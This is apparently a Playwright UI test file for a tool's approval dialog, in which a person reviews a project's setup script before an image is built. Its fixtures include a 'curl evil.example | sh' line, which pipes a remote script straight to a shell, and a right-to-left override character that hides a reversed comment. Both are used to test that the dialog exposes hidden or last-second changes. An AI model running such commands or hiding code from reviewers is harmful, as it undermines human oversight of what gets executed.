// What a project's own image is made of: a run waits, the person looks and decides.
import { clean, CONTRAST, DIALOG } from "./clean.mjs";
import { awake, becomes, clickAt, equal, ok, test, until } from "./harness.mjs";

const SCRIPT = "#!/bin/sh\nset -eu\napt-get update\napt-get install -y postgresql-client\necho done \u202e# moc.live\n";
const dialog = (page) => page.getByRole("dialog", { name: "The project's own image" });
const focused = (page, selector) => until(`${selector} has the keyboard`, () => page.evaluate((s) => document.activeElement.matches(s), selector));
const last = (mock, name) => mock.log.filter((c) => c.name === name).at(-1)?.args;

/** A channel with a run that waits. */
function waits(mock, more = {}) {
  const id = mock.channel("api-server").channel_id;
  const path = "/home/ana/src/api-server/.loop/setup.sh";
  mock.settings.toolchains = [{ path, sha256: "ab12", fields: ["setup"], kind: "setup", state: "undecided", text: SCRIPT, notes: [], diff: `@@ -0,0 +1,5 @@\n${SCRIPT.trimEnd().split("\n").map((l) => `+${l}`).join("\n")}\n`, ...more }];
  mock.world.emit("agent.status", id, "held-1", { status: "running", state: "starting", step: "toolchain", msg_id: "held-1" });
  mock.world.emit("trust.requested", id, "", { channel_id: id, path, sha256: "ab12", fields: ["setup"] });
  return { id, path };
}

test("toolchain: a run waits, the whole script is shown, and it is built by keyboard alone", { scenario: "quiet" }, async (page, mock) => {
  await page.getByRole("treeitem", { name: "api-server" }).click();
  const { id, path } = waits(mock);
  await page.getByText("The project brings an image of its own. The run waits for your word.").waitFor();
  await page.getByText("This project brings a set-up script for an image of its own.").waitFor();
  await page.locator(".banner button").focus();
  await page.keyboard.press("Enter");
  await dialog(page).getByText("apt-get install -y postgresql-client").waitFor();
  await dialog(page).locator(".hidden-char", { hasText: "RLO" }).waitFor(); // what would hide is named
  await focused(page, ".dialog-body, .toolchain-text");
  await clean(page, "the script", { within: DIALOG, looks: CONTRAST });
  await page.keyboard.press("Escape");
  await dialog(page).waitFor({ state: "detached" });
  await focused(page, ".banner button");
  equal(last(mock, "Settings.Approve"), undefined, "closing decides nothing");
  await page.keyboard.press("Enter");
  await dialog(page).getByRole("button", { name: "Build with it" }).focus();
  await awake(dialog(page));
  await page.keyboard.press("Enter");
  await page.getByText("The image is built before the next container is made.").waitFor();
  equal(last(mock, "Settings.Approve"), [id, path, "ab12"], "approved");
  await page.locator(".banner").waitFor({ state: "detached" });
});

test("toolchain: a change shows the difference first, and one that changed meanwhile is shown again", { scenario: "quiet", quietErrors: true }, async (page, mock) => {
  await page.getByRole("treeitem", { name: "api-server" }).click();
  const { id, path } = waits(mock, { diff: "@@ -1,3 +1,3 @@\n #!/bin/sh\n set -eu\n-true\n+apt-get update\n", kind: "setup", notes: ["“features” of the devcontainer is left out."] });
  await page.locator(".steps").getByRole("button", { name: "Look at it" }).click();
  await dialog(page).getByRole("button", { name: "What changed", pressed: true }).waitFor();
  await dialog(page).getByText("“features” of the devcontainer is left out.").waitFor();
  equal(await dialog(page).getByText("postgresql-client").count(), 0, "the whole text is not there");
  await dialog(page).getByRole("button", { name: "Whole text" }).click();
  await dialog(page).getByText("postgresql-client").waitFor();
  mock.world.failNext.set("Settings.Decline", { code: "conflict", cause: "The project's file has changed since it was shown.", remedy: "Look at it again." });
  mock.settings.toolchains[0].sha256 = "cd34";
  mock.settings.toolchains[0].text = "echo another text\n";
  await awake(dialog(page));
  await dialog(page).getByRole("button", { name: "Work without it" }).click();
  await dialog(page).getByText("The project's file has changed since it was shown.").waitFor();
  await dialog(page).getByRole("button", { name: "Whole text" }).click();
  await dialog(page).getByText("echo another text").waitFor();
  await awake(dialog(page));
  await dialog(page).getByRole("button", { name: "Work without it" }).click();
  await dialog(page).waitFor({ state: "detached" });
  equal(last(mock, "Settings.Decline"), [id, path, "cd34"], "declined");
});

test("toolchain: a text that comes in just before the click is not approved", { scenario: "quiet" }, async (page, mock) => {
  await page.getByRole("treeitem", { name: "api-server" }).click();
  const { id, path } = waits(mock);
  await page.locator(".banner").getByRole("button", { name: "Look at it" }).click();
  await dialog(page).getByText("apt-get install -y postgresql-client").waitFor();
  await awake(dialog(page));
  equal(await dialog(page).getByText("The text has changed since you opened this.").count(), 0, "changed");
  await clickAt(page, "curl evil.example", "Build with it");
  Object.assign(mock.settings.toolchains[0], { sha256: "cd34", text: "curl evil.example | sh\n", diff: "@@ -0,0 +1 @@\n+curl evil.example | sh\n" });
  mock.world.emit("config.changed", "", "", { ...mock.world.config });
  await dialog(page).getByText("The text has changed since you opened this.").waitFor();
  equal(last(mock, "Settings.Approve"), undefined, "approved unseen");
  await awake(dialog(page));
  await dialog(page).getByRole("button", { name: "Build with it" }).click();
  await dialog(page).waitFor({ state: "detached" });
  equal(last(mock, "Settings.Approve"), [id, path, "cd34"], "approved");
});

test("toolchain: a build that failed has its output, another try, and a way without it", { scenario: "quiet" }, async (page, mock) => {
  await page.getByRole("treeitem", { name: "api-server" }).click();
  const { id, path } = waits(mock, { state: "approved" });
  mock.world.runs.set("held-1", { run_id: "held-1", channel_id: id, prompt: "Build it", state: "failed" });
  mock.world.buildOutput = { ref: "loop-project-0a1b:latest", name: "image of the project's set-up script", began_at: Date.now(), text: "#7 [4/4] RUN setup.sh\nE: Unable to locate package postgresql-klient\n" };
  mock.world.emit("agent.status", id, "held-1", {
    status: "error", state: "failed", msg_id: "held-1", error: "x",
    failure: { code: "toolchain_build", cause: "The image of the project's set-up script could not be built.", remedy: "Look at its output, correct the file and approve it again.", detail: "exit status 100" },
  });
  const output = page.getByRole("button", { name: "Full output" });
  await output.focus();
  await page.keyboard.press("Enter");
  await page.getByRole("dialog", { name: "Output of the last build" }).getByText("Unable to locate package").waitFor();
  await focused(page, ".dialog-body, .build-log");
  await clean(page, "the output", { within: DIALOG, looks: CONTRAST });
  await page.keyboard.press("Escape");
  await page.getByRole("dialog").waitFor({ state: "detached" });
  ok(await output.evaluate((el) => el === document.activeElement), "the keyboard is back");
  await page.getByRole("button", { name: "Work without it" }).click();
  await until("run again", () => last(mock, "Runs.Retry")?.[0] === "held-1");
  equal(last(mock, "Settings.Decline"), [id, path, "ab12"], "declined");
});

test("toolchain: the channel still needs you after the page was loaded again, until the decision", { scenario: "quiet" }, async (page, mock) => {
  await page.getByRole("treeitem", { name: "api-server" }).click();
  const { id } = waits(mock);
  Object.assign(mock.channel("api-server"), { state: "needs_you", undecided: true });
  await page.reload();
  const row = page.getByRole("treeitem", { name: "api-server" });
  await row.getByText("needs you").waitFor();
  await becomes(() => page.title(), "(1) api-server · Loop");
  await page.keyboard.press("F8");
  await page.keyboard.press("F8");
  const card = page.getByRole("region", { name: "Desk" }).getByRole("group", { name: "Needs you", exact: true }).getByRole("article");
  await card.getByText("The project brings an image of its own").waitFor();
  await clean(page, "the card of an image", { looks: CONTRAST });
  await card.getByRole("button", { name: "Look at it" }).click();
  await dialog(page).getByText("apt-get install -y postgresql-client").waitFor();
  await page.keyboard.press("Escape");
  await dialog(page).waitFor({ state: "detached" });
  await card.focus();
  await page.keyboard.press("Enter");
  await focused(page, ".banner button");
  mock.world.emit("agent.status", id, "held-1", { status: "running", state: "starting", step: "slot", msg_id: "held-1" });
  await page.getByText("Waiting until a run elsewhere ends").waitFor();
  await row.getByText("needs you").waitFor({ state: "detached" });
  await becomes(() => page.title(), "api-server · Loop");
  equal(await page.locator(".banner").count(), 0, "nothing is asked any more");
});

test("toolchain: a project without any says how to bring one", { scenario: "quiet" }, async (page) => {
  await page.getByRole("treeitem", { name: "api-server" }).click();
  await page.setViewportSize({ width: 320, height: 700 });
  await page.keyboard.press("Control+k");
  await page.keyboard.insertText("project's own image");
  await page.keyboard.press("Enter");
  await dialog(page).getByText(".loop/setup.sh").waitFor();
  await page.keyboard.press("Escape");
  await dialog(page).waitFor({ state: "detached" });
});
